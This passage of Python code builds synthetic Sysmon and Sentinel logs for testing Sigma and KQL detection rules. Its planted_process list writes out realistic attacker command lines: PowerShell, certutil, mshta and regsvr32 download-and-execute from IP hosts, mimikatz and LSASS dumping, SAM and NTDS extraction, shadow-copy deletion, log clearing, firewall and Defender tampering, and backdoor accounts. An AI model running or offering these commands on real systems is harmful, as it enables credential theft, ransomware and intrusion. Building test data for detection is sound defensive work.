W|cmd|user|C:\Program Files\Amazon\AWSCLIV2\aws.exe|aws.exe|AWS CLI|Amazon.com, Inc.|2.15.43|aws s3 ls s3://contoso-data-lake-prod/raw/ --recursive --summarize ;; aws sts get-caller-identity --profile prod-readonly
W|cmd|user|C:\Program Files\Microsoft SDKs\Azure\CLI2\python.exe|Python|Python|Python Software Foundation|3.11.8|@ -IBm azure.cli account show --output json ;; @ -IBm azure.cli aks get-credentials --resource-group rg-platform-prod --name aks-platform-prod
W|svc_rdp|user|C:\Windows\System32\rdpclip.exe|RDP Clipboard Monitor||||rdpclip
S|svc_rdp|admin|C:\Windows\System32\rdpclip.exe|RDP Clipboard Monitor||||rdpclip
S|services|system|C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn\sqlceip.exe|SQL Server Telemetry Client|Microsoft SQL Server|Microsoft Corporation|2019.0150.4360.02|@ -Service MSSQLSERVER
S|sqlagent|sqlagent|C:\Program Files\Microsoft SQL Server\150\DTS\Binn\DTExec.exe|SQL Server Execute Package Utility|Microsoft SQL Server|Microsoft Corporation|2019.0150.4360.02|"C:\Program Files\Microsoft SQL Server\150\DTS\Binn\DTExec.exe" /ISSERVER "\"\SSISDB\ETL\Nightly Load\LoadSales.dtsx\"" /SERVER "\"SRV-SQL-01\"" /Par "\"$ServerOption::LOGGING_LEVEL(Int16)\"";1 /Par "\"$ServerOption::SYNCHRONIZED(Boolean)\"";True /CALLERINFO SQLAGENT /REPORTING E
S|services|system|C:\Windows\System32\dfsrs.exe|Distributed File System Replication||||C:\Windows\system32\DFSRs.exe
S|services|system|C:\Windows\ADWS\Microsoft.ActiveDirectory.WebServices.exe|Microsoft.ActiveDirectory.WebServices.exe|||10.0.20348.1 (WinBuild.160101.0800)|C:\Windows\ADWS\Microsoft.ActiveDirectory.WebServices.exe
S|services|system|C:\Windows\System32\dns.exe|Domain Name System (DNS) Server||||C:\Windows\system32\dns.exe
S|services|system|C:\Program Files\Microsoft Monitoring Agent\Agent\HealthService.exe|Health Service|System Center Operations Manager|Microsoft Corporation|10.20.18053.0|@
S|healthsvc|system|C:\Program Files\Microsoft Monitoring Agent\Agent\MonitoringHost.exe|Monitoring Host|System Center Operations Manager|Microsoft Corporation|10.20.18053.0|@ -Embedding ;; @ -Embedding -Start:Tier0
S|services|system|C:\Program Files\AzureConnectedMachineAgent\himds.exe|Azure Connected Machine Agent|Azure Connected Machine Agent|Microsoft Corporation|1.41.02664.1629|@
S|services|system|C:\Program Files\Qualys\QualysAgent\QualysAgent.exe|Qualys Cloud Agent|Qualys Cloud Agent|Qualys, Inc.|5.5.0.35|@
S|svc_dcom|user|C:\Windows\System32\tstheme.exe|Theme Server||||C:\Windows\system32\tstheme.exe -Embedding
A|services|system|C:\Windows\System32\TrustedInstaller.exe|Windows Modules Installer||||C:\Windows\servicing\TrustedInstaller.exe
A|svc_dcom|system|C:\Windows\System32\sdiagnhost.exe|Scripted Diagnostics Native Host||||C:\Windows\System32\sdiagnhost.exe -Embedding
A|svc_sched|system|C:\Windows\System32\wsqmcons.exe|Windows SQM Consolidator||||C:\Windows\System32\wsqmcons.exe
A|svc_sched|system|C:\Windows\System32\SrTasks.exe|Microsoft® Windows System Protection background tasks.||||C:\Windows\system32\srtasks.exe ExecuteScheduledSPPCreation
A|services|system|C:\Windows\System32\SearchIndexer.exe|Microsoft Windows Search Indexer||||C:\Windows\system32\SearchIndexer.exe /Embedding
A|svc_dcom|user|C:\Windows\System32\WinBioDataModel\WinBioDataModelOOBE.exe|Windows Biometric Data Model OOBE||||@ -Embedding
W|svc_dcom|user|C:\Windows\System32\smartscreen.exe|Windows Defender SmartScreen||||C:\Windows\System32\smartscreen.exe -Embedding
W|explorer|user|C:\Windows\System32\mspaint.exe|Paint||||"C:\Windows\system32\mspaint.exe" "C:\Users\{{USER}}\Pictures\Screenshots\Screenshot 2025-10-20 101512.png"
W|explorer|user|C:\Windows\System32\SnippingTool.exe|Snipping Tool||||"C:\Windows\system32\SnippingTool.exe"
W|explorer|user|C:\Windows\System32\calc.exe|Windows Calculator||||"C:\Windows\system32\calc.exe"
W|explorer|user|C:\Windows\System32\mstsc.exe|Remote Desktop Connection||||"C:\Windows\system32\mstsc.exe"
W|explorer|user|C:\Windows\System32\taskmgr.exe|Task Manager||||"C:\Windows\system32\taskmgr.exe" /7
W|explorer|user|C:\Windows\System32\control.exe|Windows Control Panel||||"C:\Windows\system32\control.exe" /name Microsoft.DevicesAndPrinters
W|explorer|user|C:\Program Files\WindowsApps\Microsoft.ScreenSketch_11.2403.21.0_x64__8wekyb3d8bbwe\SnippingTool\SnippingTool.exe|Snipping Tool|Snipping Tool|Microsoft Corporation|11.2403.21.0|@ -ScreenClip:v2
W|explorer|user|C:\Program Files\WindowsApps\Microsoft.OutlookForWindows_1.2024.509.100_x64__8wekyb3d8bbwe\olk.exe|Microsoft Outlook|Microsoft Outlook|Microsoft Corporation|1.2024.509.100|@
W|explorer|user|C:\Program Files\Microsoft Office\root\Office16\lync.exe|Skype for Business|Microsoft Office|Microsoft Corporation|16.0.17531.20152|@ /fromrunkey
W|svc_sched|system|C:\Program Files (x86)\Google\GoogleUpdater\126.0.6423.0\updater.exe|Google Updater|Google Updater|Google LLC|126.0.6423.0|@ --wake --system
W|svc_sched|user|C:\Users\{{USER}}\AppData\Local\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe|Standalone Updater|Microsoft OneDrive|Microsoft Corporation|24.076.0414.0003|@ /reporting
W|services|system|C:\Program Files\Intel\Intel(R) Rapid Storage Technology\IAStorDataMgrSvc.exe|IAStorDataSvc|Intel(R) Rapid Storage Technology|Intel Corporation|17.11.0.1000|@
W|services|system|C:\Program Files (x86)\Lenovo\LenovoNow\x86\LenovoVantageService.exe|Lenovo Vantage Service|Lenovo Vantage Service|Lenovo Group Ltd.|3.13.43.0|@
W|explorer|user|C:\Program Files\Microsoft\jdk-17.0.11.9-hotspot\bin\javaw.exe|OpenJDK Platform binary|OpenJDK Platform 17.0.11|Microsoft|17.0.11.0|@ -jar "C:\Program Files\Internal Tools\Timesheet Client\timesheet-client.jar"
W|explorer|user|C:\Program Files\PuTTY\putty.exe|SSH, Telnet, Rlogin, and SUPDUP client|PuTTY suite|Simon Tatham|0.81.0.0|@ -load "lab-switch-01"
W|explorer|user|C:\Program Files\WinSCP\WinSCP.exe|WinSCP: SFTP, FTP, WebDAV, S3 and SCP client|WinSCP|Martin Prikryl|6.3.3.0|@ sftp://deploy@sftp.partner.example.net/
W|explorer|user|C:\Program Files\Wireshark\Wireshark.exe|Wireshark|Wireshark|The Wireshark developer community, https://www.wireshark.org/|4.2.5|@
"""


def tail_profiles():
    out = []
    for line in TAIL.strip().splitlines():
        hosts, parent, account, path, desc, product, company, ver, cmds = line.split("|")
        img = Img(path.replace("{{USER}}", "%USER%"), path.rsplit("\\", 1)[1], desc, product or MSW[0],
                  company or MSW[1], ver or WIN_VER)
        if "{{USER}}" in path:  # per-user install: the Image path carries the user name
            img.block = img.block.replace("%USER%", "{{USER}}")
            img.image_j = img.image_j.replace("%USER%", "{{USER}}")
        q = '"%s"' % path
        out.append(({"W": "ws", "S": "srv", "A": "any"}[hosts], parent, account, img,
                    [c.replace("@", q, 1) if c.startswith("@") else c for c in cmds.split(" ;; ")]))
    return out


def ps_enc(script):
    return base64.b64encode(script.encode("utf-16-le")).decode()


PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"

# Planted process creations. Each: (rule file under ../shared/corpus/sigma/rules/windows/process_creation/,
# Img, CommandLine, parent key, account, IntegrityLevel). Values are taken from the rule's selections.
def planted_process(r):
    I = Img
    whoami = I(S32 + "whoami.exe", "whoami.exe", "whoami - displays logged on user information")
    vss = I(S32 + "vssadmin.exe", "VSSADMIN.EXE", "Command Line Interface for Microsoft® Volume Shadow Copy Service ")
    certutil = I(S32 + "certutil.exe", "CertUtil.exe", "CertUtil.exe")
    rundll = I(S32 + "rundll32.exe", "RUNDLL32.EXE", "Windows host process (Rundll32)")
    reg = I(S32 + "reg.exe", "reg.exe", "Registry Console Tool")
    mshta = I(S32 + "mshta.exe", "MSHTA.EXE", "Microsoft (R) HTML Application host", "Internet Explorer", ver="11.00.19041.1 (WinBuild.160101.0800)")
    net = I(S32 + "net.exe", "net.exe", "Net Command")
    net1 = I(S32 + "net1.exe", "net1.exe", "Net Command")
    bcd = I(S32 + "bcdedit.exe", "bcdedit.exe", "Boot Configuration Data Editor")
    ntds = I(S32 + "ntdsutil.exe", "ntdsutil.exe", "NT5DS", ver="10.0.20348.1 (WinBuild.160101.0800)")
    procdump = I("C:\\Users\\Public\\procdump64.exe", "procdump", "Sysinternals process dump utility", "ProcDump", "Sysinternals - www.sysinternals.com", "11.0")
    nltest = I(S32 + "nltest.exe", "nltestrk.exe", "Microsoft® Logon Server Test Utility")
    schtasks = I(S32 + "schtasks.exe", "schtasks.exe", "Task Scheduler Configuration Tool")
    bits = I(S32 + "bitsadmin.exe", "bitsadmin.exe", "BITS administration utility", ver="7.8.19041.1 (WinBuild.160101.0800)")
    wmic = I(S32 + "wbem\\WMIC.exe", "wmic.exe", "WMI Commandline Utility")
    netsh = I(S32 + "netsh.exe", "netsh.exe", "Network Command Shell")
    adfind = I("C:\\Users\\Public\\Music\\AdFind.exe", "AdFind.exe", "Joeware ADFind", "AdFind", "www.joeware.net", "1.57.0.0")
    psexec = I("C:\\Tools\\PsExec64.exe", "psexec.exe", "Execute processes remotely", "Sysinternals PsExec", "Sysinternals - www.sysinternals.com", "2.43")
    regsvr = I(S32 + "regsvr32.exe", "REGSVR32.EXE", "Microsoft(C) Register Server")
    wevt = I(S32 + "wevtutil.exe", "wevtutil.exe", "Eventing Command Line Utility")
    mimi = I("C:\\Users\\Public\\Libraries\\m64.exe", "mimikatz.exe", "mimikatz for Windows", "mimikatz", "gentilkiwi (Benjamin DELPY)", "2.2.0.0")
    sevenz = I("C:\\Program Files\\7-Zip\\7z.exe", "7z.exe", "7-Zip Console", "7-Zip", "Igor Pavlov", "23.01")
    sc = I(S32 + "sc.exe", "sc.exe", "Service Control Manager Configuration Tool")
    cmd, ps = IMGS["cmd"], IMGS["powershell"]
    dl = "http://%d.%d.%d.%d" % (r.choice((45, 91, 185, 193)), r.randrange(256), r.randrange(256), r.randrange(1, 255))

    return [
        ("proc_creation_win_whoami_all_execution.yml", whoami, "whoami  /all", "cmd", "user", "Medium"),
        ("proc_creation_win_whoami_priv_discovery.yml", whoami, "whoami /priv", "cmd", "admin", "High"),
        ("proc_creation_win_powershell_base64_encoded_cmd.yml", ps,
         f"\"{PS}\" -nop -w hidden -noni -enc " + ps_enc(f"$wc=New-Object Net.WebClient;$wc.Headers.Add('User-Agent','Mozilla/5.0');IEX $wc.DownloadString('{dl}:8080/a')"),
         "winword", "user", "Medium"),
        ("proc_creation_win_powershell_base64_encoded_cmd.yml", ps,
         f"powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc " + ps_enc("$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAAEAKtWKkktLlGyUkpKLCpJLS5RBgBKy3cqEwAAAA=='));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"),
         "cmd", "user", "Medium"),
        ("proc_creation_win_susp_shadow_copies_deletion.yml", vss, "vssadmin.exe delete shadows /all /quiet", "cmd", "admin", "High"),
        ("proc_creation_win_susp_shadow_copies_deletion.yml", wmic, "wmic  shadowcopy delete /nointeractive", "cmd", "admin", "High"),
        ("proc_creation_win_certutil_download.yml", certutil,
         f"certutil.exe -urlcache -split -f {dl}/update/KB5034441.exe C:\\Users\\Public\\Downloads\\KB5034441.exe", "cmd", "user", "Medium"),
        ("proc_creation_win_rundll32_mshtml_runhtmlapplication.yml", rundll,
         f"rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();GetObject(\"script:{dl}/p.sct\")", "explorer", "user", "Medium"),
        ("proc_creation_win_reg_dumping_sensitive_hives.yml", reg, "reg.exe save hklm\\sam C:\\Users\\Public\\sam.save /y", "cmd", "admin", "High"),
        ("proc_creation_win_reg_dumping_sensitive_hives.yml", reg, "reg  save HKLM\\SYSTEM C:\\Windows\\Temp\\sys.hiv", "cmd", "admin", "High"),
        ("proc_creation_win_hktl_mimikatz_command_line.yml", mimi,
         "C:\\Users\\Public\\Libraries\\m64.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" \"exit\"", "cmd", "admin", "High"),
        ("proc_creation_win_mshta_javascript.yml", mshta,
         f"mshta.exe javascript:a=GetObject(\"script:{dl}/x.sct\").Exec();close();", "explorer", "user", "Medium"),
        ("proc_creation_win_net_user_add.yml", net, "net  user svc_helpdesk P@ssw0rd!2024 /add /domain", "cmd", "admin", "High"),
        ("proc_creation_win_net_user_add.yml", net1, "C:\\Windows\\system32\\net1  user backup_adm Winter2024! /add", "cmd", "admin", "High"),
        ("proc_creation_win_bcdedit_boot_conf_tamper.yml", bcd, "bcdedit.exe /set {default} recoveryenabled No", "cmd", "admin", "High"),
        ("proc_creation_win_bcdedit_boot_conf_tamper.yml", bcd, "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures", "cmd", "admin", "High"),
        ("proc_creation_win_rundll32_process_dump_via_comsvcs.yml", rundll,
         "\"C:\\Windows\\system32\\rundll32.exe\" C:\\windows\\System32\\comsvcs.dll, MiniDump 756 C:\\Windows\\Temp\\debug.bin full", "powershell", "admin", "High"),
        ("proc_creation_win_ntdsutil_usage.yml", ntds, "ntdsutil.exe \"ac i ntds\" \"ifm\" \"create full c:\\temp\\ntds_backup\" q q", "cmd", "admin", "High"),
        ("proc_creation_win_sysinternals_procdump_lsass.yml", procdump,
         "C:\\Users\\Public\\procdump64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\lsass_%d.dmp" % r.randrange(1000, 9999), "cmd", "admin", "High"),
        ("proc_creation_win_nltest_recon.yml", nltest, "nltest  /domain_trusts /all_trusts", "cmd", "user", "Medium"),
        ("proc_creation_win_nltest_recon.yml", nltest, "nltest.exe /dclist:corp.example.com", "cmd", "user", "Medium"),
        ("proc_creation_win_powershell_download_iex.yml", ps,
         f"powershell.exe -nop -c \"IEX (New-Object Net.WebClient).DownloadString('{dl}/Invoke-Inventory.ps1'); Invoke-Inventory -Full\"", "cmd", "user", "Medium"),
        ("proc_creation_win_schtasks_creation_temp_folder.yml", schtasks,
         "schtasks.exe /create /tn \"OneDrive Standalone Update Task-S-1-5-21\" /tr \"C:\\Users\\{{USER}}\\AppData\\Local\\Temp\\odupd.exe\" /sc once /st 00:00 /f", "cmd", "user", "Medium"),
        ("proc_creation_win_bitsadmin_download.yml", bits,
         f"bitsadmin.exe /transfer WindowsUpdateJob /download /priority high {dl}/wu/setup.exe C:\\Users\\Public\\setup.exe", "cmd", "user", "Medium"),
        ("proc_creation_win_wmic_uninstall_security_products.yml", wmic,
         "wmic.exe product where \"name like '%Sophos%'\" call uninstall /nointeractive", "cmd", "admin", "High"),
        ("proc_creation_win_netsh_fw_disable.yml", netsh, "netsh.exe advfirewall set allprofiles state off", "cmd", "admin", "High"),
        ("proc_creation_win_reg_add_run_key.yml", reg,
         "reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v \"Teams Helper\" /t REG_SZ /d \"C:\\Users\\{{USER}}\\AppData\\Roaming\\Microsoft\\helper.exe\" /f", "cmd", "user", "Medium"),
        ("proc_creation_win_pua_adfind_susp_usage.yml", adfind, "AdFind.exe -f \"(objectcategory=computer)\" -csv name operatingSystem", "cmd", "user", "Medium"),
        ("proc_creation_win_pua_adfind_susp_usage.yml", adfind, "AdFind.exe -gcb -sc trustdmp", "cmd", "user", "Medium"),
        ("proc_creation_win_sysinternals_psexec_remote_execution.yml", psexec,
         "C:\\Tools\\PsExec64.exe \\\\10.20.4.17 -accepteula -u CORP\\adm-backup -p Backup#2024 -s cmd.exe /c \"ipconfig /all\"", "cmd", "admin", "High"),
        ("proc_creation_win_regsvr32_http_ip_pattern.yml", regsvr,
         f"regsvr32.exe /s /n /u /i:{dl}/file.sct scrobj.dll", "cmd", "user", "Medium"),
        ("proc_creation_win_susp_eventlog_clear.yml", wevt, "wevtutil.exe cl Security", "cmd", "admin", "High"),
        ("proc_creation_win_susp_eventlog_clear.yml", ps,
         "powershell.exe -c \"Clear-EventLog -LogName Application,System,'Windows PowerShell'\"", "cmd", "admin", "High"),
        ("proc_creation_win_net_use_mount_admin_share.yml", net, "net.exe use \\\\SRV-FILE-02\\C$ /user:CORP\\adm-backup Backup#2024", "cmd", "admin", "High"),
        ("proc_creation_win_powershell_defender_exclusion.yml", ps,
         "powershell.exe -ExecutionPolicy Bypass -Command Add-MpPreference -ExclusionPath \"C:\\Users\\Public\\Libraries\" -Force", "cmd", "admin", "High"),
        ("proc_creation_win_netsh_port_forwarding.yml", netsh,
         "netsh.exe interface portproxy add v4tov4 listenport=8443 listenaddress=0.0.0.0 connectport=3389 connectaddress=10.20.4.17", "cmd", "admin", "High"),
        ("proc_creation_win_cmd_ping_del_combined_execution.yml", cmd,
         "\"C:\\Windows\\System32\\cmd.exe\" /C ping 127.0.0.7 -n 3 > Nul & Del /f /q \"C:\\Users\\{{USER}}\\AppData\\Local\\Temp\\inst_8812.exe\"", "explorer", "user", "Medium"),
        ("proc_creation_win_7zip_password_compression.yml", sevenz,
         "\"C:\\Program Files\\7-Zip\\7z.exe\" a -pInfected2024 -mhe=on C:\\Users\\Public\\Documents\\arch_01.7z \"C:\\Users\\{{USER}}\\OneDrive - Contoso\\Shared\\Finance Team\\*.xlsx\"", "cmd", "user", "Medium"),
        ("proc_creation_win_office_susp_child_processes.yml", cmd,
         "C:\\Windows\\system32\\cmd.exe /c \"C:\\Users\\{{USER}}\\AppData\\Local\\Temp\\~DF3A1.tmp.bat\"", "winword", "user", "Medium"),
        ("proc_creation_win_sc_create_service.yml", sc,
         "sc.exe create UpdateOrchestratorSvc binPath= \"C:\\Windows\\Temp\\uso_svc.exe\" start= auto DisplayName= \"Update Orchestrator\"", "cmd", "admin", "High"),
    ]


def gen_process(seed, count, rate):
    pr = random.Random(f"process-pools:{seed}")
    rng = random.Random(f"process-stream:{seed}")
    rnd, bits = rng.random, rng.getrandbits
    dom = "corp.example.com"
    start_sec = epoch("2025-10-20T08:00:00Z")

    # Users: (sam name, SID) ; admins are separate accounts of some users.
    names = person_names(pr, 380)
    people = [f"{f}.{l}" for f, l in names]
    admins = [f"adm-{f[0]}{l}" for f, l in names[:25]]

    # Hosts: (computer_j, kind, hostpart, sysmon pid, thread ids, primary user, rid counter holder, boot)
    depts = ["FIN", "HR", "ENG", "SLS", "MKT", "OPS", "LGL", "IT"]
    host_names = []
    for i in range(300):
        host_names.append(("WS-%s-%04d.%s" % (pr.choice(depts), pr.randrange(10000), dom), "ws"))
    for role, n in [("SQL", 4), ("WEB", 6), ("FILE", 3), ("APP", 8), ("RDS", 3), ("BKP", 2)]:
        for k in range(1, n + 1):
            host_names.append(("SRV-%s-%02d.%s" % (role, k, dom), "srv"))
    host_names += [("DC01.%s" % dom, "srv"), ("DC02.%s" % dom, "srv")]
    pr.shuffle(host_names)
    # servers are busier: move them towards the head of the Zipf ranking
    host_names.sort(key=lambda h: (0 if h[1] == "srv" and pr.random() < 0.6 else 1))
    hosts = []
    for i, (name, kind) in enumerate(host_names):
        hosts.append({
            "computer": J(name), "kind": kind, "part": "%08X" % pr.getrandbits(32),
            "spid": pr.randrange(1000, 6000) & ~3, "tids": [pr.randrange(1000, 9000) & ~3 for _ in range(4)],
            "user": i % len(people), "rid": pr.randrange(100000, 30000000), "boot": start_sec - pr.randrange(3600, 14 * 86400),
            "suffix": "%04X" % pr.choice((0x4002, 0x4102, 0x5F00, 0x4302, 0x7C00)),
            "uidx": pr.randrange(len(people)),
        })
    pick_host = zipf_picker(rng, len(hosts), 1.0, 3.0)
    pick_admin = zipf_picker(rng, len(admins), 1.2, 1.0)

    def acct_fields(h, account, user_sam):
        """-> (User_j, LogonGuid tail, LogonId hex, session, default IL)"""
        if account == "system":
            return '"NT AUTHORITY\\\\SYSTEM"', 0x3E7, 0, "System"
        if account == "netsvc":
            return '"NT AUTHORITY\\\\NETWORK SERVICE"', 0x3E4, 0, "System"
        if account == "localsvc":
            return '"NT AUTHORITY\\\\LOCAL SERVICE"', 0x3E5, 0, "System"
        if account == "iis":
            return '"IIS APPPOOL\\\\DefaultAppPool"', 0x1A3F2B, 0, "Medium"
        if account == "sqlagent":
            return '"NT SERVICE\\\\SQLSERVERAGENT"', 0x2B4C1, 0, "High"
        lid = 0x100000 + ((hash_int(user_sam) ^ int(h["part"], 16)) & 0x3FFFFF)
        return J("CORP\\" + user_sam), lid, (2 if h["kind"] == "srv" else 1), ("High" if account == "admin" else "Medium")

    def hash_int(s):
        return int.from_bytes(hashlib.md5(s.encode()).digest()[:4], "little")

    def logon_guid(h, lid):
        le = lid.to_bytes(8, "little").hex().upper()
        b = h["boot"]
        return f"{h['part']}-{b & 0xFFFF:04X}-{b >> 16:04X}-{le[:4]}-{le[4:]}"

    # Pre-encode profiles.
    profiles = []
    for (w, img, cmds, parents, account, il, cwd, rule, hk) in make_benign_profiles(pr):
        pw = Picker(rng, cum([p[0] for p in parents]))
        if isinstance(cmds[0], tuple):
            pick_cmd, cmds = Picker(rng, cum([c[0] for c in cmds])), [c[1] for c in cmds]
        else:
            pick_cmd = zipf_picker(rng, len(cmds), 1.0, 1.0)
        profiles.append((w, hk, IMGS[img], [J(c) for c in cmds], pick_cmd,
                         pw, [p[1] for p in parents], account, il, J(cwd), J(rule)))
    # the long tail: ~25% of events over ~110 images, Zipf-like in a seeded order
    tail = tail_profiles()
    order = list(range(len(tail)))
    pr.shuffle(order)
    zc = zipf_cum(len(tail), 1.0, 2.0)
    for rank, i in enumerate(order):
        hk, parent, account, img, cmds = tail[i]
        w = 50.0 * (zc[rank] - (zc[rank - 1] if rank else 0.0)) / zc[-1]
        cwd = ("C:\\Windows\\system32\\" if account in ("system", "netsvc", "localsvc") or parent != "explorer"
               else img.path.rsplit("\\", 1)[0] + "\\")
        profiles.append((w, hk, img, [J(c) for c in cmds], zipf_picker(rng, len(cmds), 1.0, 1.0), Picker(rng, [1.0]),
                         [parent], account, None, J(cwd), '"-"'))
    ws_prof = [p for p in profiles if p[1] in ("ws", "any")]
    srv_prof = [p for p in profiles if p[1] in ("srv", "any")]
    pick_ws = Picker(rng, cum([p[0] for p in ws_prof]))
    pick_srv = Picker(rng, cum([p[0] for p in srv_prof]))

    planted = []
    for rule, img, cmd, parent, account, il in planted_process(pr):
        planted.append((1, "any", img, [J(cmd)], (lambda: 0), (lambda: 0), [parent], account, il,
                        '"C:\\\\Windows\\\\system32\\\\"' if account == "admin" else '"C:\\\\Users\\\\{{USER}}\\\\"',
                        '"-"'))
    n_planted = len(planted)

    parent_cache = {}
    user_cache = {}

    def parent_fields(h, hidx, pkey, user_sam, user_j):
        key = (hidx, pkey, user_sam)
        v = parent_cache.get(key)
        if v is None:
            ik, pcmd, pacct = PARENTS[pkey]
            pimg = IMGS[ik]
            pj = J(pcmd).replace("{G}", uuid4(pr))
            if pacct == "system":
                puser = '"NT AUTHORITY\\\\SYSTEM"'
            elif pacct == "admin":
                puser = J("CORP\\" + admins[hash_int(h["part"]) % len(admins)])
            else:
                puser = user_j
            seed_ = hash_int(f"{hidx}/{pkey}/{user_sam}")
            ppid = 600 + (seed_ % 30000) & ~3
            t0 = h["boot"] + (seed_ % 500000)
            ppg = f"{h['part']}-{t0 & 0xFFFF:04X}-{t0 >> 16:04X}-{(seed_ >> 8) & 0xFFFF:04X}-00000000{h['suffix']}"
            v = (f'"ParentProcessGuid":"{ppg}","ParentProcessId":{ppid},"ParentImage":{pimg.image_j},'
                 f'"ParentCommandLine":{pj},"ParentUser":{puser}').replace("{{USER}}", user_sam)
            parent_cache[key] = v
        return v

    fmt_sys = SecondFormat("%Y-%m-%dT%H:%M:%S")
    fmt_utc = SecondFormat("%Y-%m-%d %H:%M:%S")
    t = start_sec * 1_000_000
    p_plant = 0.009 * rate
    for _ in range(count):
        t += int(rng.expovariate(1 / 180_000))  # mean 0.18 s across the fleet
        hidx = pick_host()
        h = hosts[hidx]
        if p_plant > 0 and rnd() < p_plant:
            prof = planted[rng.randrange(n_planted)]
        elif h["kind"] == "srv":
            prof = srv_prof[pick_srv()]
        else:
            prof = ws_prof[pick_ws()]
        (_, _, img, cmds, pick_cmd, pick_par, parents, account, il, cwd, rule) = prof
        pkey = parents[pick_par()]
        if account == "same":
            account = PARENTS[pkey][2]
        if account == "user" and h["kind"] == "srv":
            account = "admin"
        if account == "admin":
            user_sam = admins[pick_admin()]
        elif h["kind"] == "ws" and rnd() < 0.95:
            user_sam = people[h["user"]]
        else:
            user_sam = people[h["uidx"]]
        ukey = (hidx, account, user_sam)
        uf = user_cache.get(ukey)
        if uf is None:
            user_j, lid, sess, il0 = acct_fields(h, account, user_sam)
            uf = user_cache[ukey] = (user_j, f'"LogonGuid":"{logon_guid(h, lid)}","LogonId":"0x{lid:x}","TerminalSessionId":{sess}', il0)
        user_j, logon, il0 = uf
        cmd = cmds[pick_cmd()]
        if "{{" in cmd:
            cmd = cmd.replace("{{USER}}", user_sam)
        if "{{" in cwd:
            cwd_s = cwd.replace("{{USER}}", user_sam)
        else:
            cwd_s = cwd
        par = parent_fields(h, hidx, pkey, user_sam, user_j)
        blk = img.block
        if "{{" in blk:
            blk = blk.replace("{{USER}}", user_sam)
        h["rid"] += 1 + bits(4)
        sec = t // 1_000_000
        us = t % 1_000_000
        ms = max(us // 1000 - 1 - bits(1), 0)
        pid = 1000 + (bits(15) << 2) % 60000
        pg = f"{h['part']}-{sec & 0xFFFF:04X}-{sec >> 16:04X}-{bits(16):04X}-00000000{h['suffix']}"
        yield (f'{{"Event":{{"#attributes":{{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"}},'
               f'"System":{{"Provider":{{"#attributes":{{"Name":"Microsoft-Windows-Sysmon","Guid":"5770385F-C22A-43E0-BF4C-06F5698FFBD9"}}}},'
               f'"EventID":1,"Version":5,"Level":4,"Task":1,"Opcode":0,"Keywords":"0x8000000000000000",'
               f'"TimeCreated":{{"#attributes":{{"SystemTime":"{fmt_sys(sec)}.{us:06d}Z"}}}},"EventRecordID":{h["rid"]},'
               f'"Correlation":null,"Execution":{{"#attributes":{{"ProcessID":{h["spid"]},"ThreadID":{h["tids"][bits(2)]}}}}},'
               f'"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":{h["computer"]},'
               f'"Security":{{"#attributes":{{"UserID":"S-1-5-18"}}}}}},'
               f'"EventData":{{"RuleName":{rule},"UtcTime":"{fmt_utc(sec)}.{ms:03d}","ProcessGuid":"{pg}","ProcessId":{pid},'
               f'{blk},"CommandLine":{cmd},"CurrentDirectory":{cwd_s},"User":{user_j},'
               f'{logon},'
               f'"IntegrityLevel":"{il or il0}","Hashes":{img.hashes},{par}}}}}}}')


# =========================================================================== sentinel
#
# One mixed file of three Log Analytics tables, each row carrying its table in `Type` (how rulec
# routes a row to a query's source table, docs/kql.md "Tables and events"): SigninLogs (the rows
# of gen_signin, retimed), SecurityEvent (Windows Security log as the Azure Monitor agent writes
# it: Account / TargetAccount "DOMAIN\user", LogonType, IpAddress, the logon ids as hex text) and
# CommonSecurityLog (CEF from firewalls, VPN and proxy: DeviceVendor, DeviceProduct, Activity,
# SourceIP, DestinationIP, DestinationPort, DeviceAction). The tables share their entities so
# that joins find rows: the SecurityEvent and CommonSecurityLog rows take their users and public
# IPs from the sign-ins written before them (the UPN's local part is the Windows account name),
# and each user has one workstation whose internal IP the firewall rows use. One clock for all
# rows (mean 0.5 s apart), so every TimeGenerated is distinct.

SE_ACTIVITY = {
    4624: "4624 - An account was successfully logged on.", 4625: "4625 - An account failed to log on.",
    4634: "4634 - An account was logged off.", 4672: "4672 - Special privileges assigned to new logon.",
    4688: "4688 - A new process has been created.", 4720: "4720 - A user account was created.",
    4726: "4726 - A user account was deleted.", 4732: "4732 - A member was added to a security-enabled local group.",
    1102: "1102 - The audit log was cleared.",
}
SE_BENIGN_PROCS = [  # weight, parent, process path, command line
    (20, "C:\\Windows\\explorer.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"'),
    (18, "C:\\Windows\\explorer.exe", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --single-argument'),
    (12, "C:\\Windows\\System32\\services.exe", "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
    (10, "C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\cmd.exe", '"C:\\Windows\\System32\\cmd.exe"'),
    (8, "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe"),
    (8, "C:\\Windows\\explorer.exe", "C:\\Users\\Public\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe", '"Teams.exe" --system-initiated'),
    (6, "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\ipconfig.exe", "ipconfig /all"),
    (5, "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\Intune\\detect.ps1"),
